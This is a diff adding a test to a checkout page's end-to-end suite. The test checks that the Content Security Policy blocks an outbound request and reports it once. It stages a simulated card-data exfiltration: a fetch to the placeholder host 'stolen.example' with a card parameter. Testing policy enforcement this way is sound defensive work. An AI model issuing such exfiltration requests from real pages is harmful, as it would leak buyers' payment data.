@@ -432,6 +432,18 @@ describe('the checkout page', () => {
     await stage.query('DELETE FROM velocity_counter', []);
   });
 
+  it('tells its node what the policy has blocked, and the node says so once', async () => {
+    await page.goto(course());
+    await page.evaluate(() => fetch('https://stolen.example/take?card=1').catch(() => undefined));
+
+    const reported = () =>
+      stage.query(`SELECT page, directive, blocked FROM page_report WHERE blocked LIKE '%stolen%'`, []);
+    await expect
+      .poll(reported)
+      .toEqual([{ page: 'checkout', directive: 'connect-src', blocked: 'https://stolen.example' }]);
+    forgive('stolen.example');
+  });
+
   it('charges once when the buyer clicks twice', async () => {
     await page.goto(course());
     await fillBuyer('PIX');
